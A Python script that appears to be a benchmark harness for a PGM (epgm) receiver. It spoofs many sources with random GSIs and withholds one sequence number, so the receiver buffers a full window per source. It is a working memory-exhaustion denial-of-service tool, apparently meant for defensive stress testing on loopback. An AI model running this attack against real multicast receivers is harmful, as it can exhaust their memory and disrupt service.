"""A hostile PGM sender for bench/pgm_hostile.sh: spoofs SOURCES sources (random GSIs) on
an epgm group and port, each sending sequence numbers 0 and 2..=PACKETS full-size ODATA
packets whose APDUs start no message (offset 0xFFFF). Sequence number 1 never comes, so a
receiver holds every packet after it while it asks for the repair: what a receiver keeps
for unauthenticated sources is then its whole window per source, for as many sources as it
follows.

The packets go out in bursts that fit the receiving socket's buffer; between bursts it
waits until every UDP socket bound to PORT in this namespace has drained its queue, so the
kernel drops as little as possible and the victim, not the kernel, decides what to keep.

    python3 pgm_hostile.py GROUP PORT SOURCES PACKETS
"""

import os
import socket
import struct
import sys
import time

ODATA = 0x04
TSDU = 1446  # epgm's largest unfragmented TSDU at MULTICAST_MAXTPDU 1500, less nothing
BURST = 32


def checksum(packet):
    """RFC 3208's checksum: the one's complement of the one's complement 16-bit sum."""
    if len(packet) % 2:
        packet += b"\0"
    total = sum(struct.unpack(f"!{len(packet) // 2}H", packet))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    folded = ~total & 0xFFFF
    return folded or 0xFFFF


def odata(sport, dport, gsi, sqn, trail, tsdu):
    header = struct.pack("!HHBBH6sH", sport, dport, ODATA, 0, 0, gsi, len(tsdu))
    packet = header + struct.pack("!II", sqn, trail) + tsdu
    c = checksum(packet)
    return packet[:6] + struct.pack("!H", c) + packet[8:]


def queued(port):
    """Bytes waiting in the receive queues of the UDP sockets bound to `port`."""
    total = 0
    with open("/proc/net/udp") as table:
        next(table)
        for row in table:
            fields = row.split()
            if fields[1].endswith(f":{port:04X}"):
                total += int(fields[4].split(":")[1], 16)
    return total


def drained(port):
    deadline = time.monotonic() + 10
    while queued(port) and time.monotonic() < deadline:
        time.sleep(0.001)


def main():
    group, port, sources, packets = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    tsdu = b"\xff\xff" + os.urandom(TSDU - 2)
    sent = 0
    for n in range(sources):
        gsi = os.urandom(6)
        sport = 1024 + n % 60000
        sqns = [0] + list(range(2, packets + 1))
        for i, sqn in enumerate(sqns):
            out.sendto(odata(sport, port, gsi, sqn, 0, tsdu), (group, port))
            sent += 1
            if (i + 1) % BURST == 0:
                drained(port)
        drained(port)
    print(f"sent {sent} packets from {sources} sources")


main()
